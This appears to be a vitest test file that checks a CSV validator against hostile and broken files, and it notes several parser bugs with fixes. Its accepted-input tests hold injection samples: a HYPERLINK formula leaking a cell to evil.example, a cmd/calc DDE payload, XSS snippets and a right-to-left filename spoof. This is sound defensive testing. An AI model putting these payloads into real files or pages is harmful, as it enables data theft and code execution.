import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { catalog } from '../../../src/datasets/catalog';
import type { DataProblem } from '../../../src/datasets/dataProblem';
import { formatProblem } from '../../../src/datasets/dataProblem';
import { MAX_PROBLEMS, parseDataset } from '../../../src/datasets/parseDataset';
import type { DatasetSchema } from '../../../src/datasets/schema';
import { fixtureSchema, keyedFixtureSchema } from '../../fixtures/fixtureSchema';

/**
 * Hostile and broken CSV files against the validator. Every committed file in
 * tests/fixtures/hostile/ was written once, byte for byte, by
 * tests/fixtures/makeHostileFixtures.mjs; the large inputs are built in memory
 * below. tests/fixtures/hostile/README.md gives the decision for each: refused
 * with the file, row and column and what was expected and found, or accepted
 * with its text kept exactly as written (React renders it as text).
 */
const DIR = 'tests/fixtures/hostile';
const BROKEN_DIR = 'tests/fixtures/broken';
/** Each file, however hostile, is judged in less than this. */
const TIME_LIMIT_MS = 2000;

const read = (dir: string, name: string): Uint8Array => new Uint8Array(readFileSync(join(process.cwd(), dir, name)));
const parseFixture = (name: string) => {
  const file = `${DIR}/${name}`;
  return { file, ...parseDataset(read(DIR, name), fixtureSchema, file) };
};

const H = 'area,year,value,note';
const utf8 = (s: string): Uint8Array => new TextEncoder().encode(s);
const MB = 1 << 20;

/** The large inputs: built here, not committed, so the repository stays small. */
const IN_MEMORY: Readonly<Record<string, () => Uint8Array>> = {
  'in-memory/one-mb-cell.csv': () => utf8(`${H}\nBristol,2010,12.5,${'x'.repeat(MB)}\n`),
  // 768 kB of commas, doubled quotes and line breaks inside one quoted note, then an error on row 3.
  'in-memory/huge-quoted-multiline-cell.csv': () => utf8(`${H}\nBristol,2010,12.5,"${'a,b\n"" '.repeat(MB / 8)}"\nBristol,2011,n/a,\n`),
  'in-memory/hundred-thousand-columns.csv': () =>
    utf8(`${Array.from({ length: 100_000 }, (_, i) => `c${i}`).join(',')}\nBristol,2010,12.5,\n`),
  // The same header, but behind a line break inside a quoted first name, so the quick column count sees one column.
  'in-memory/hundred-thousand-columns-behind-a-quote.csv': () =>
    utf8(`"ar\nea",${Array.from({ length: 100_000 }, (_, i) => `c${i}`).join(',')}\nBristol,2010,12.5,\n`),
  'in-memory/hundred-thousand-fields-in-a-row.csv': () => utf8(`${H}\n${'x,'.repeat(100_000)}x\n`),
  'in-memory/one-mb-line-no-separator.csv': () => utf8(`${'h'.repeat(MB)}\n`),
  'in-memory/hundred-thousand-doubled-quotes.csv': () => utf8(`${H}\nBristol,2010,12.5,"${'""'.repeat(100_000)}"\n`),
  'in-memory/unclosed-quote-over-half-a-million-lines.csv': () => utf8(`${H}\nBristol,2010,12.5,"${'x\n'.repeat(500_000)}`),
  'in-memory/hundred-thousand-bad-rows.csv': () =>
    utf8(`${H}\n${Array.from({ length: 100_000 }, (_, i) => `Bristol,2010,bad${i},`).join('\n')}\n`),
  // 64 valid rows (four areas × sixteen years) with old-Mac (CR-only) line endings and quoted notes holding commas.
  'in-memory/cr-only-64-rows.csv': () => {
    const areas = ['Bath and North East Somerset', 'Bristol', 'North Somerset', 'South Gloucestershire'];
    const rows = Array.from(
      { length: 64 },
      (_, i) => `${areas[i % 4]},${2005 + (i >> 2)},${i},"note ${i}, revised, see tables 1, 2, 3, 4, 5 and 6"`,
    );
    return utf8(`${H}\r${rows.join('\r')}\r`);
  },
};
const parseInMemory = (name: string) => ({ file: name, ...parseDataset((IN_MEMORY[name] as () => Uint8Array)(), fixtureSchema, name) });

interface Refused {
  readonly spec: string;
  readonly fixture: string;
  /** Where, as formatProblem writes it after the file name (empty when the file as a whole is wrong). */
  readonly at: string;
  readonly row: number | undefined;
  readonly column: string | undefined;
  /** Substrings of what was expected and of what was found, in the first problem. */
  readonly expected: readonly string[];
  readonly found: readonly string[];
  /** Every problem as [row, column, found]; when given, the list must be exactly this. */
  readonly all?: readonly (readonly [number | undefined, string | undefined, string])[];
}

const VALUE = 'a number in £m of at least 0';
const NOT_UTF8 = 'UTF-8 text (save the file as "CSV UTF-8")';
const NUL = 'text without NUL characters';
const QUOTES = 'quotes in pairs around a field ("like, this")';
const AREAS = 'one of: Bath and North East Somerset, Bristol, North Somerset, South Gloucestershire';
const EMPTY = 'a header row: area, year, value, note';

const refused: readonly Refused[] = [
  // --- quoting
  {
    spec: 'refuses five quotes either side of a category: the two doubled quotes left are not part of any category',
    fixture: 'deeply-quoted.csv',
    at: 'row 2, column "area"',
    row: 2,
    column: 'area',
    expected: [AREAS],
    found: ['"""Bristol"""'],
  },
  {
    spec: 'refuses an odd number of quotes and names the row the open quote is on',
    fixture: 'odd-quotes.csv',
    at: 'row 3',
    row: 3,
    column: undefined,
    expected: [QUOTES],
    found: ['a quote that is never closed'],
  },
  {
    spec: 'refuses a quote in the middle of an unquoted category: kept literally, it is no category',
    fixture: 'quote-mid-field.csv',
    at: 'row 2, column "area"',
    row: 2,
    column: 'area',
    expected: [AREAS],
    found: ['"Bris"tol"'],
  },
  {
    spec: 'refuses a file that is one lone quote',
    fixture: 'lone-quote.csv',
    at: 'row 1',
    row: 1,
    column: undefined,
    expected: [QUOTES],
    found: ['a quote that is never closed'],
  },
  {
    spec: 'refuses a quote opened in the last byte of the file',
    fixture: 'quote-at-eof.csv',
    at: 'row 2',
    row: 2,
    column: undefined,
    expected: [QUOTES],
    found: ['a quote that is never closed'],
  },
  {
    spec: 'refuses a line break inside a quoted category and shows it as \\u000a',
    fixture: 'newline-in-category.csv',
    at: 'row 2, column "area"',
    row: 2,
    column: 'area',
    expected: [AREAS],
    found: ['"Bris\\u000atol"'],
  },
  // --- NUL bytes
  {
    spec: 'refuses a NUL as the first byte, on row 1',
    fixture: 'nul-first-byte.csv',
    at: 'row 1',
    row: 1,
    column: undefined,
    expected: [NUL],
    found: ['a NUL byte'],
  },
  {
    spec: 'refuses a NUL inside a header name',
    fixture: 'nul-in-header.csv',
    at: 'row 1',
    row: 1,
    column: undefined,
    expected: [NUL],
    found: ['a NUL byte'],
  },
  {
    spec: 'refuses a NUL inside a quoted two-line note and names the row the note starts on',
    fixture: 'nul-in-quoted-multiline.csv',
    at: 'row 3',
    row: 3,
    column: undefined,
    expected: [NUL],
    found: ['a NUL byte (is this a binary or UTF-16 file?)'],
  },
  // --- encodings
  {
    spec: 'refuses UTF-16 big-endian at its byte-order mark',
    fixture: 'utf16be-bom.csv',
    at: 'row 1',
    row: 1,
    column: undefined,
    expected: [NOT_UTF8],
    found: ['the byte 0xFE, which is not valid UTF-8'],
  },
  {
    spec: 'refuses UTF-16 little-endian without a byte-order mark by its NUL bytes, and suggests UTF-16',
    fixture: 'utf16le-no-bom.csv',
    at: 'row 1',
    row: 1,
    column: undefined,
    expected: [NUL],
    found: ['is this a binary or UTF-16 file?'],
  },
  {
    spec: 'refuses a UTF-16 row pasted into a UTF-8 file, on that row',
    fixture: 'utf16le-row-in-utf8.csv',
    at: 'row 3',
    row: 3,
    column: undefined,
    expected: [NOT_UTF8],
    found: ['the byte 0xFF, which is not valid UTF-8'],
  },
  {
    spec: 'refuses a Latin-1 é inside a quoted two-line note and names the row the note starts on',
    fixture: 'latin1-in-quoted-field.csv',
    at: 'row 3',
    row: 3,
    column: undefined,
    expected: [NOT_UTF8],
    found: ['the byte 0xE9, which is not valid UTF-8'],
  },
  {
    spec: 'refuses a stray UTF-8 continuation byte',
    fixture: 'stray-continuation-byte.csv',
    at: 'row 3',
    row: 3,
    column: undefined,
    expected: [NOT_UTF8],
    found: ['the byte 0x80, which is not valid UTF-8'],
  },
  {
    spec: 'refuses an overlong encoding of "/" (C0 AF)',
    fixture: 'overlong-utf8.csv',
    at: 'row 2',
    row: 2,
    column: undefined,
    expected: [NOT_UTF8],
    found: ['the byte 0xC0, which is not valid UTF-8'],
  },
  {
    spec: 'refuses an encoded UTF-16 surrogate (ED A0 80)',
    fixture: 'encoded-surrogate.csv',
    at: 'row 2',
    row: 2,
    column: undefined,
    expected: [NOT_UTF8],
    found: ['the byte 0xED, which is not valid UTF-8'],
  },
  {
    spec: 'refuses a multi-byte character cut short by the end of the file',
    fixture: 'truncated-utf8-at-eof.csv',
    at: 'row 2',
    row: 2,
    column: undefined,
    expected: [NOT_UTF8],
    found: ['the byte 0xE2, which is not valid UTF-8'],
  },
  {
    spec: 'refuses a file that is only a byte-order mark as empty',
    fixture: 'only-bom.csv',
    at: '',
    row: undefined,
    column: undefined,
    expected: [EMPTY],
    found: ['an empty file'],
  },
  // --- formulas and markup where they do not belong
  {
    spec: 'refuses a formula in a number column',
    fixture: 'formula-in-number.csv',
    at: 'row 2, column "value"',
    row: 2,
    column: 'value',
    expected: [VALUE],
    found: ['"=1+1"'],
  },
  {
    spec: 'refuses a script tag as a category and quotes it as text',
    fixture: 'html-in-category.csv',
    at: 'row 2, column "area"',
    row: 2,
    column: 'area',
    expected: [AREAS],
    found: ['"<script>alert(1)</script>"'],
  },
  {
    spec: 'refuses an HTML column name as an unknown column and names it as text',
    fixture: 'html-in-header.csv',
    at: 'row 1, column "<img src=x onerror=alert(1)>"',
    row: 1,
    column: '<img src=x onerror=alert(1)>',
    expected: ["only the schema's columns (area, year, value, note)"],
    found: ['an unknown extra column'],
  },
  {
    spec: 'refuses a category followed by a right-to-left override',
    fixture: 'rtl-override-category.csv',
    at: 'row 2, column "area"',
    row: 2,
    column: 'area',
    expected: [AREAS],
    found: ['"Bristol'],
  },
  {
    spec: 'refuses a category with a zero-width joiner inside',
    fixture: 'zero-width-joiner-category.csv',
    at: 'row 2, column "area"',
    row: 2,
    column: 'area',
    expected: [AREAS],
    found: ['"Bris'],
  },
  // --- lines and separators
  {
    spec: 'refuses a file of line breaks only as empty',
    fixture: 'only-newlines.csv',
    at: '',
    row: undefined,
    column: undefined,
    expected: [EMPTY],
    found: ['an empty file'],
  },
  {
    spec: 'counts rows in a CR-only (old Mac) file and names the bad value on row 4',
    fixture: 'cr-only-error.csv',
    at: 'row 4, column "value"',
    row: 4,
    column: 'value',
    expected: [VALUE],
    found: ['"n/a"'],
  },
  {
    spec: 'refuses CRLF, LF and CR mixed in one file, naming the first row that ends differently and both endings',
    fixture: 'mixed-line-endings.csv',
    at: 'row 2',
    row: 2,
    column: undefined,
    expected: ['one kind of line ending throughout, as on row 1: CRLF (Windows)'],
    found: ['a row ending in LF (Unix, macOS)'],
  },
  {
    spec: 'refuses a LF file with one row ending in CRLF, naming that row (a CRLF inside quotes is text)',
    fixture: 'mixed-line-endings-late.csv',
    at: 'row 5',
    row: 5,
    column: undefined,
    expected: ['one kind of line ending throughout, as on row 1: LF (Unix, macOS)'],
    found: ['a row ending in CRLF (Windows)'],
  },
  {
    spec: 'refuses a tab-separated file: none of the columns is there',
    fixture: 'tab-delimited.csv',
    at: 'row 1, column "area"',
    row: 1,
    column: 'area',
    expected: ['this column in the header'],
    found: ['no such column'],
    all: [
      [1, 'area', 'no such column'],
      [1, 'year', 'no such column'],
      [1, 'value', 'no such column'],
      [1, 'note', 'no such column'],
      // Header names in messages show invisible characters: the tab is written \u0009.
      [1, 'area\\u0009year\\u0009value\\u0009note', 'an unknown extra column'],
    ],
  },
  {
    spec: 'refuses Excel\'s "sep=;" line as the header',
    fixture: 'excel-sep-line.csv',
    at: 'row 1, column "area"',
    row: 1,
    column: 'area',
    expected: ['this column in the header'],
    found: ['no such column'],
    all: [
      [1, 'area', 'no such column'],
      [1, 'year', 'no such column'],
      [1, 'value', 'no such column'],
      [1, 'note', 'no such column'],
      [1, 'sep=;', 'an unknown extra column'],
    ],
  },
  {
    spec: 'refuses the header repeated as a data row, cell by cell',
    fixture: 'header-as-data-row.csv',
    at: 'row 3, column "area"',
    row: 3,
    column: 'area',
    expected: [AREAS],
    found: ['"area"'],
    all: [
      [3, 'area', '"area"'],
      [3, 'year', '"year"'],
      [3, 'value', '"value"'],
    ],
  },
  {
    spec: 'refuses a trailing comma on every row as a blank extra column',
    fixture: 'trailing-comma-every-row.csv',
    at: 'row 1, column "(blank)"',
    row: 1,
    column: '(blank)',
    expected: ["only the schema's columns"],
    found: ['an unknown extra column'],
  },
  // --- numbers
  {
    spec: 'refuses numbers a double cannot hold as written: 1e-400 (reads as 0), 5e-324 (loses precision), 2e308 (infinity)',
    fixture: 'number-out-of-double-range.csv',
    at: 'row 2, column "value"',
    row: 2,
    column: 'value',
    expected: [VALUE, '0 or at least about 2.2e-308 in size'],
    found: ['"1e-400", which reads as 0'],
    all: [
      [2, 'value', '"1e-400", which reads as 0'],
      [3, 'value', '"5e-324", which cannot be held at full precision'],
      [4, 'value', '"2e308", which reads as infinity'],
    ],
  },
  {
    spec: 'refuses Infinity, NaN, 1e400, 0x10, -Infinity and 1_000, each on its row',
    fixture: 'number-specials.csv',
    at: 'row 2, column "value"',
    row: 2,
    column: 'value',
    expected: [VALUE],
    found: ['"Infinity"'],
    all: [
      [2, 'value', '"Infinity"'],
      [3, 'value', '"NaN"'],
      [4, 'value', '"1e400", which reads as infinity'],
      [5, 'value', '"0x10"'],
      [6, 'value', '"-Infinity"'],
      [7, 'value', '"1_000"'],
    ],
  },
  {
    spec: 'refuses a space after the sign and a space as thousands separator',
    fixture: 'number-inner-space.csv',
    at: 'row 2, column "value"',
    row: 2,
    column: 'value',
    expected: [VALUE],
    found: ['"+ 5"'],
    all: [
      [2, 'value', '"+ 5"'],
      [3, 'value', '"1 234"'],
    ],
  },
  {
    spec: 'refuses digits that are not ASCII (Arabic-Indic, fullwidth)',
    fixture: 'non-ascii-digits.csv',
    at: 'row 2, column "value"',
    row: 2,
    column: 'value',
    expected: [VALUE],
    found: ['"\u0661\u0662"'],
    all: [
      [2, 'value', '"\u0661\u0662"'],
      [3, 'value', '"\uFF11\uFF12"'],
    ],
  },
];

/** The large inputs that are refused, with where and why. */
const refusedInMemory: readonly Refused[] = [
  {
    spec: 'refuses a 1 MB cell by its length, without quoting it',
    fixture: 'in-memory/one-mb-cell.csv',
    at: 'row 2, column "note"',
    row: 2,
    column: 'note',
    expected: ['at most 2000 characters'],
    found: ['1,048,576 characters'],
  },
  {
    spec: 'refuses a 768 kB quoted note full of commas, quotes and line breaks, and still numbers the next row right',
    fixture: 'in-memory/huge-quoted-multiline-cell.csv',
    at: 'row 2, column "note"',
    row: 2,
    column: 'note',
    expected: ['at most 2000 characters'],
    found: ['786,432 characters'],
    all: [
      [2, 'note', '786,432 characters'],
      [3, 'value', '"n/a"'],
    ],
  },
  {
    spec: 'refuses a header of 100,000 columns before parsing it',
    fixture: 'in-memory/hundred-thousand-columns.csv',
    at: 'row 1',
    row: 1,
    column: undefined,
    expected: ['a header of 4 columns'],
    found: ['100,000 columns'],
  },
  {
    spec: 'refuses a header of 100,000 columns hidden behind a quoted line break, listing 50 problems and counting the rest',
    fixture: 'in-memory/hundred-thousand-columns-behind-a-quote.csv',
    at: 'row 1, column "area"',
    row: 1,
    column: 'area',
    expected: ['this column in the header'],
    found: ['no such column'],
  },
  {
    spec: 'refuses a row of 100,001 fields',
    fixture: 'in-memory/hundred-thousand-fields-in-a-row.csv',
    at: 'row 2',
    row: 2,
    column: undefined,
    expected: ['4 fields, as in the header'],
    found: ['100001 fields (an unquoted comma?)'],
  },
  {
    spec: 'refuses a 1 MB line without a separator: none of the columns is there',
    fixture: 'in-memory/one-mb-line-no-separator.csv',
    at: 'row 1, column "area"',
    row: 1,
    column: 'area',
    expected: ['this column in the header'],
    found: ['no such column'],
  },
  {
    spec: 'refuses 100,000 doubled quotes in a note by the unescaped length',
    fixture: 'in-memory/hundred-thousand-doubled-quotes.csv',
    at: 'row 2, column "note"',
    row: 2,
    column: 'note',
    expected: ['at most 2000 characters'],
    found: ['100,000 characters'],
  },
  {
    spec: 'refuses a quote left open over half a million lines, on the row it opens',
    fixture: 'in-memory/unclosed-quote-over-half-a-million-lines.csv',
    at: 'row 2',
    row: 2,
    column: undefined,
    expected: [QUOTES],
    found: ['a quote that is never closed'],
  },
  {
    spec: 'refuses 100,000 bad rows, listing the first 50',
    fixture: 'in-memory/hundred-thousand-bad-rows.csv',
    at: 'row 2, column "value"',
    row: 2,
    column: 'value',
    expected: [VALUE],
    found: ['"bad0"'],
  },
];

function expectRefused(r: Refused, file: string, rows: readonly unknown[], problems: readonly DataProblem[]): void {
  expect(rows).toEqual([]);
  expect(problems.length).toBeGreaterThan(0);
  const first = problems[0] as DataProblem;
  expect(first.file).toBe(file);
  expect(first.row).toBe(r.row);
  expect(first.column).toBe(r.column);
  const message = formatProblem(first);
  expect(message.startsWith(`${file}${r.at ? `, ${r.at}` : ''}: expected `)).toBe(true);
  const [expectedPart, foundPart] = message.split('; found ') as [string, string];
  for (const e of r.expected) expect(expectedPart).toContain(e);
  for (const f of r.found) expect(foundPart).toContain(f);
  if (r.all) expect(problems.map((p) => [p.row, p.column, p.found])).toEqual(r.all);
}

describe('parseDataset on hostile CSV files: refused with file, row, column, expected and found', () => {
  it.each(refused)('$spec ($fixture)', (r) => {
    const { file, rows, problems } = parseFixture(r.fixture);
    expectRefused(r, file, rows, problems);
  });

  it.each(refusedInMemory)('$spec ($fixture)', (r) => {
    const { file, rows, problems } = parseInMemory(r.fixture);
    expectRefused(r, file, rows, problems);
  });

  it('caps the list at 50 problems plus one line that counts the rest, when the header has 100,000 unknown columns', () => {
    const { problems } = parseInMemory('in-memory/hundred-thousand-columns-behind-a-quote.csv');
    expect(problems).toHaveLength(MAX_PROBLEMS + 1);
    // 4 missing columns + 100,001 unknown ones ("ar\nea" and c0 … c99999) = 100,005, of which 50 are listed.
    expect(problems.at(-1)).toEqual({
      file: 'in-memory/hundred-thousand-columns-behind-a-quote.csv',
      expected: 'fewer problems',
      found: '99955 more problems not listed',
    });
  });

  it('lists 50 problems of 100,000 bad rows, then a line about the rest', () => {
    const { problems } = parseInMemory('in-memory/hundred-thousand-bad-rows.csv');
    expect(problems).toHaveLength(MAX_PROBLEMS + 1);
    expect(problems.slice(0, MAX_PROBLEMS).map((p) => p.row)).toEqual(Array.from({ length: MAX_PROBLEMS }, (_, i) => i + 2));
    expect(problems.at(-1)?.expected).toBe('fewer problems');
  });

  /*
   * BUG csv/problem-count: the row loop in parseDataset stops at the 51st
   * problem (`if (problems.length > MAX_PROBLEMS) break;`), so cap() always
   * reports "1 more problems not listed", here for 99,950 unlisted problems;
   * data/README.md promises "a count of the rest". Proposed fix in
   * src/datasets/parseDataset.ts: keep counting after the cap without storing
   * (e.g. `let extra = 0; … if (problems.length >= MAX_PROBLEMS) { extra++; continue; }`
   * and report `${extra} more problems not listed`), or say "more problems not
   * listed" without a number when the loop stopped early.
   */
  it('counts the unlisted problems of 100,000 bad rows (99,950)', () => {
    const { problems } = parseInMemory('in-memory/hundred-thousand-bad-rows.csv');
    expect(problems.at(-1)?.found).toBe('99950 more problems not listed');
  });

  it('names the unknown columns of a header without a trailing newline', () => {
    const { problems } = parseFixture('html-in-header.csv');
    expect(problems.map((p) => [p.row, p.column, p.found])).toEqual([[1, '<img src=x onerror=alert(1)>', 'an unknown extra column']]);
  });

  /*
   * BUG csv/invisible-in-message: show() in src/datasets/messageText.ts makes
   * only C0 controls and DEL visible (\u0000-\u001f, \u007f). Zero-width and
   * bidirectional controls go into the message as they are: "Bris\u200Dtol"
   * is reported as found "Bristol", next to an expected list that contains
   * "Bristol", and a U+202E RIGHT-TO-LEFT OVERRIDE reverses the rest of the
   * line in a terminal or CI log (the "Trojan Source" trick). Proposed fix:
   * widen show()'s pattern to
   *   /[\u0000-\u001f\u007f-\u009f\u00ad\u061c\u180e\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]/g
   * (same \uXXXX escape). Header names need the same treatment (see csv/column-name).
   */
  it('shows a zero-width joiner in a category as \\u200d', () => {
    const { problems } = parseFixture('zero-width-joiner-category.csv');
    expect(problems[0]?.found).toBe('"Bris\\u200dtol"');
  });

  it('shows a right-to-left override after a category as \\u202e', () => {
    const { problems } = parseFixture('rtl-override-category.csv');
    expect(problems[0]?.found).toBe('"Bristol\\u202e"');
  });

  /*
   * BUG csv/column-name: an unknown header name goes into the problem's
   * `column` as it is, never through show(): a 1 MB header line becomes a
   * 1 MB message (and a name with invisible or bidi characters is printed
   * raw). Proposed fix in parseDataset.ts, unknown-column problem:
   * `column: h === '' ? '(blank)' : clip(h)`, where clip() is show() without
   * the quotes (first 40 characters, controls made visible, length noted).
   */
  it('keeps the message about a 1 MB header name short', () => {
    const { problems } = parseInMemory('in-memory/one-mb-line-no-separator.csv');
    for (const p of problems) expect(formatProblem(p).length).toBeLessThan(500);
  });
});

describe('parseDataset on hostile CSV files: accepted, with text kept exactly as written', () => {
  it('keeps spreadsheet formulas in a text column as text, exactly (toCsv neutralises them on export)', () => {
    const { rows, problems } = parseFixture('formula-notes.csv');
    expect(problems).toEqual([]);
    expect(rows.map((r) => r.note)).toEqual([
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
      "+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(A1:A9)',
      '=1+1,cmd',
    ]);
  });

  it('keeps HTML and script in a text column as text, exactly', () => {
    const { rows, problems } = parseFixture('html-in-note.csv');
    expect(problems).toEqual([]);
    expect(rows.map((r) => r.note)).toEqual([
      '<img src=x onerror=alert(1)>',
      '<script>alert(1)</script>',
      '<a href="javascript:alert(1)">x</a>',
    ]);
  });

  it('keeps a right-to-left override in a note, exactly', () => {
    const { rows, problems } = parseFixture('rtl-override-note.csv');
    expect(problems).toEqual([]);
    expect(rows).toEqual([{ area: 'Bristol', year: 2010, value: 12.5, note: 'invoice\u202Efdp.exe' }]);
  });

  it('keeps zero-width joiners and spaces in a note, exactly', () => {
    const { rows, problems } = parseFixture('zero-width-joiner-note.csv');
    expect(problems).toEqual([]);
    expect(rows[0]?.note).toBe('\u{1F469}\u200D\u{1F4BB} team\u200Bnote');
  });

  it('unescapes nested doubled quotes exactly', () => {
    const { rows, problems } = parseFixture('nested-quotes-note.csv');
    expect(problems).toEqual([]);
    expect(rows[0]?.note).toBe('He said "she said ""no"""');
  });

  it('drops two byte-order marks (the second is trimmed as white space)', () => {
    const { rows, problems } = parseFixture('double-bom.csv');
    expect(problems).toEqual([]);
    expect(rows).toEqual([{ area: 'Bristol', year: 2010, value: 12.5, note: '' }]);
  });

  it('trims no-break spaces around a category and a number, as it trims spaces', () => {
    const { rows, problems } = parseFixture('nbsp-padding.csv');
    expect(problems).toEqual([]);
    expect(rows).toEqual([{ area: 'Bristol', year: 2010, value: 12.5, note: '' }]);
  });

  it('accepts CR-only (old Mac) line endings in a small file', () => {
    const { rows, problems } = parseFixture('cr-only.csv');
    expect(problems).toEqual([]);
    expect(rows).toEqual([
      { area: 'Bristol', year: 2010, value: 12.5, note: '' },
      { area: 'North Somerset', year: 2010, value: 3, note: '' },
    ]);
  });

  /*
   * BUG csv/cr-only-header-count: the quick header check in parseDataset
   * finds the end of the first line with /\r?\n/, so in a CR-only file the
   * "first line" is the whole file and every comma in it counts as a column.
   * A small CR-only file is accepted (papaparse detects "\r" by itself), but
   * one with more than 500 commas in all (here 64 rows with commas in quoted
   * notes) is refused with the false message "row 1: expected a header of 4
   * columns; found 580 columns". Proposed fix: find the
   * first line with /\r\n|\n|\r/ (papaparse's own newline set), or pass the
   * detected newline on.
   */
  it('accepts CR-only line endings in a file of 64 rows as in a small one', () => {
    const { rows, problems } = parseInMemory('in-memory/cr-only-64-rows.csv');
    expect(problems).toEqual([]);
    expect(rows).toHaveLength(64);
  });

  it('accepts exponent notation when a double holds the value as written: 1e6, 2.5E-3, 1.5e+308, 0e-400', () => {
    const { rows, problems } = parseFixture('number-exponents.csv');
    expect(problems).toEqual([]);
    expect(rows.map((r) => r.value)).toEqual([1e6, 0.0025, 1.5e308, 0]);
  });

  it('refuses keys that differ only in letter case, a zero-width space or a bidi mark, naming both rows', () => {
    const file = `${DIR}/near-duplicate-keys.csv`;
    const { rows, problems } = parseDataset(read(DIR, 'near-duplicate-keys.csv'), keyedFixtureSchema, file);
    expect(rows).toEqual([]);
    expect(problems.map(formatProblem)).toEqual([
      `${file}, row 4: expected a unique id (keys that differ only in letter case or invisible characters are the same key); found id=Alpha, the same key as row 2 (id=alpha) but for letter case or invisible characters`,
      `${file}, row 5: expected a unique id (keys that differ only in letter case or invisible characters are the same key); found id=be\\u200bta, the same key as row 3 (id=beta) but for letter case or invisible characters`,
      `${file}, row 7: expected a unique id (keys that differ only in letter case or invisible characters are the same key); found id=gamma\\u200f, the same key as row 6 (id=gamma) but for letter case or invisible characters`,
    ]);
  });

  it('accepts numbers padded with spaces, tabs and a leading +', () => {
    const { rows, problems } = parseFixture('number-padding.csv');
    expect(problems).toEqual([]);
    expect(rows.map((r) => [r.year, r.value])).toEqual([
      [2010, 12.5],
      [2011, 7],
      [2012, 0.5],
    ]);
  });

  it('accepts -0 as zero', () => {
    const { rows, problems } = parseFixture('negative-zero.csv');
    expect(problems).toEqual([]);
    expect(rows[0]?.value === 0).toBe(true);
  });

  /*
   * BUG csv/negative-zero: "-0" is a plain number and not below min 0, so it
   * is accepted and stored as -0; the table view formats it with
   * Intl.NumberFormat, which writes "-0". Proposed fix in parseNumber:
   * `return { ok: true, value: value === 0 ? 0 : value };` (or refuse a
   * signed zero where min is 0).
   */
  it('stores -0 as 0', () => {
    const { rows } = parseFixture('negative-zero.csv');
    expect(Object.is(rows[0]?.value, -0)).toBe(false);
  });
});

describe('parseDataset on every broken, hostile and large input', () => {
  const committed = [
    ...readdirSync(join(process.cwd(), BROKEN_DIR))
      .filter((f) => f.endsWith('.csv'))
      .map((f) => ({ name: `${BROKEN_DIR}/${f}`, bytes: () => read(BROKEN_DIR, f) })),
    ...readdirSync(join(process.cwd(), DIR))
      .filter((f) => f.endsWith('.csv'))
      .map((f) => ({ name: `${DIR}/${f}`, bytes: () => read(DIR, f) })),
  ];
  const all = [...committed, ...Object.entries(IN_MEMORY).map(([name, bytes]) => ({ name, bytes }))];

  // The fixture schema, the widest real one (years across the header) and one of free text.
  const schemas: DatasetSchema[] = [fixtureSchema, catalog.snpp2022, catalog.workshopIdeaMentions];

  it(
    `judges each of the ${all.length} inputs without throwing, in under ${TIME_LIMIT_MS} ms, against ${schemas.length} schemas`,
    { timeout: 60_000 },
    () => {
      const slow: string[] = [];
      for (const { name, bytes } of all) {
        const input = bytes();
        for (const schema of schemas) {
          const started = performance.now();
          let result: ReturnType<typeof parseDataset> | undefined;
          expect(() => (result = parseDataset(input, schema, name)), `${name} with ${schema.id}`).not.toThrow();
          const ms = performance.now() - started;
          if (ms >= TIME_LIMIT_MS) slow.push(`${name} with ${schema.id}: ${Math.round(ms)} ms`);
          // Either rows or problems, never both, and every problem names the file.
          expect(result!.rows.length === 0 || result!.problems.length === 0).toBe(true);
          for (const p of result!.problems) expect(p.file).toBe(name);
        }
      }
      expect(slow).toEqual([]);
      expect(all.length).toBeGreaterThanOrEqual(36 + 30);
    },
  );

  it('never throws on 3,000 random byte strings and 3,000 random CSV-like texts', { timeout: 60_000 }, () => {
    let runs = 0;
    const csvText = fc
      .array(
        fc.oneof(
          fc.constantFrom(
            ',',
            '"',
            '\n',
            '\r',
            '\r\n',
            '\t',
            ';',
            ' ',
            '\u0000',
            '\uFEFF',
            '\u202E',
            '\u200D',
            '=',
            '+',
            '-',
            '.',
            'e',
            '%',
          ),
          fc.constantFrom('area', 'year', 'value', 'note', 'Bristol', 'North Somerset', '2010', '12.5', '1,234', '1e400', 'NaN'),
          fc.string({ unit: 'grapheme', maxLength: 8 }),
        ),
        { maxLength: 80 },
      )
      .map((parts) => utf8(parts.join('')));
    const withHeader = csvText.map((b) => new Uint8Array([...utf8(`${H}\n`), ...b]));
    const input = fc.oneof(fc.uint8Array({ maxLength: 400 }), csvText, withHeader);
    fc.assert(
      fc.property(input, (bytes) => {
        runs++;
        const r = parseDataset(bytes, fixtureSchema, 'random.csv');
        expect(r.rows.length === 0 || r.problems.length === 0).toBe(true);
        for (const p of r.problems) expect(typeof formatProblem(p)).toBe('string');
      }),
      { numRuns: 6000, seed: 20190416 },
    );
    expect(runs).toBe(6000);
  });
});

describe('the hostile fixtures folder', () => {
  const accepted = [
    'formula-notes.csv',
    'html-in-note.csv',
    'rtl-override-note.csv',
    'zero-width-joiner-note.csv',
    'nested-quotes-note.csv',
    'double-bom.csv',
    'nbsp-padding.csv',
    'cr-only.csv',
    'number-padding.csv',
    'negative-zero.csv',
    'number-exponents.csv',
  ];
  /** Checked above against a schema of their own. */
  const otherSchema = ['near-duplicate-keys.csv'];

  it('holds at least 30 CSV files, none of which a test above does not check, and none already in broken/', () => {
    const checked = [...refused.map((r) => r.fixture), ...accepted, ...otherSchema].sort();
    const onDisk = readdirSync(join(process.cwd(), DIR))
      .filter((f) => f.endsWith('.csv'))
      .sort();
    expect(onDisk).toEqual(checked);
    expect(onDisk.length).toBeGreaterThanOrEqual(30);
    const broken = new Set(readdirSync(join(process.cwd(), BROKEN_DIR)));
    expect(onDisk.filter((f) => broken.has(f))).toEqual([]);
  });

  it('lists every fixture, committed or built in memory, in its README', () => {
    const readme = readFileSync(join(process.cwd(), DIR, 'README.md'), 'utf8');
    const names = [...refused.map((r) => r.fixture), ...accepted, ...otherSchema, ...Object.keys(IN_MEMORY)];
    expect(names.filter((n) => !readme.includes(`\`${n.replace(/^in-memory\//, '')}\``))).toEqual([]);
  });
});
